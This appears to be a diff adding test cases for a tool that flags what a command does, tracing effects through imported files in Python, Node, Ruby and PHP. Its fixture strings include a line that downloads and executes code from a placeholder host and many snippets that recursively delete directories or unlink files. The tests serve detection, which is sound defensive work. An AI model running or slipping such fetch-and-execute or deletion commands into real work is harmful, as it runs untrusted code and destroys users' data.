@@ -80,3 +80,48 @@ test('what a module downloads and runs counts', () => {
   const files = { '/w/a.py': 'import b', '/w/b.py': "import urllib.request\nexec(urllib.request.urlopen('https://x.example').read())" }
   expect(effectLines('python a.py', { files })).toContain('execute:download text from the network')
 })
+
+const settings =
+  'from pathlib import Path\nDATA = Path(__file__).parent / "data"\nALL = ["data"]\nMORE = {"dir": "data"}\nclass Own:\n    dir = "data"\nown = Own()\n'
+const removes = (target: string): string => `import shutil\nshutil.rmtree(${target})\n`
+
+test.each<readonly [name: string, commandLine: string, files: Readonly<Record<string, string>>]>([
+  ['a name', 'python a.py', { 'a.py': `from settings import DATA\n${removes('DATA')}`, 'settings.py': settings }],
+  ['a member', 'python a.py', { 'a.py': `import os, settings\n${removes('settings.DATA')}`, 'settings.py': settings }],
+  ['every name', 'python a.py', { 'a.py': `from settings import *\n${removes('DATA')}`, 'settings.py': settings }],
+  ['an entry', 'python a.py', { 'a.py': `from settings import MORE\n${removes('MORE["dir"]')}`, 'settings.py': settings }],
+  ['a field', 'python a.py', { 'a.py': `from settings import own\n${removes('own.dir')}`, 'settings.py': settings }],
+  [
+    'an item',
+    'python a.py',
+    { 'a.py': 'import shutil\nfrom settings import ALL\nfor one in ALL:\n    shutil.rmtree(one)\n', 'settings.py': settings },
+  ],
+  ['a module of the package', 'python a.py', { 'a.py': `from . import settings\n${removes('settings.DATA')}`, 'settings.py': settings }],
+  [
+    'a module of a module',
+    'python a.py',
+    { 'a.py': 'import b', 'b.py': `from settings import DATA\n${removes('DATA')}`, 'settings.py': settings },
+  ],
+  [
+    'an export',
+    'node a.mjs',
+    { 'a.mjs': "import { out } from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(out)", 'b.mjs': "export const out = 'data'" },
+  ],
+  [
+    'the default',
+    'node a.mjs',
+    { 'a.mjs': "import b from './b.mjs'\nimport fs from 'fs'\nfs.rmSync(b.out)", 'b.mjs': "export default { out: 'data' }" },
+  ],
+  [
+    'all exports',
+    'node a.cjs',
+    { 'a.cjs': "const { out } = require('./b.cjs')\nrequire('fs').rmSync(out)", 'b.cjs': "module.exports = { out: 'data' }" },
+  ],
+  ['one more', 'node a.cjs', { 'a.cjs': "require('fs').rmSync(require('./b.cjs').out)", 'b.cjs': "module.exports.out = 'data'" }],
+  ['a constant of Ruby', 'ruby a.rb', { 'a.rb': "require_relative 'b'\nFileUtils.rm_rf(DATA)", 'b.rb': "DATA = 'data'" }],
+  ['a variable of PHP', 'php a.php', { 'a.php': "<?php require 'b.php'; unlink($data);", 'b.php': "<?php $data = 'data';" }],
+  ['a constant of PHP', 'php a.php', { 'a.php': "<?php require 'b.php'; unlink(DATA);", 'b.php': "<?php define('DATA', 'data');" }],
+])('what another file holds is deleted: %s', (_name, commandLine, files) => {
+  const world = Object.fromEntries(Object.entries(files).map(([path, text]) => [`/w/${path}`, text]))
+  expect(effectLines(commandLine, { files: world })).toContain('delete data')
+})
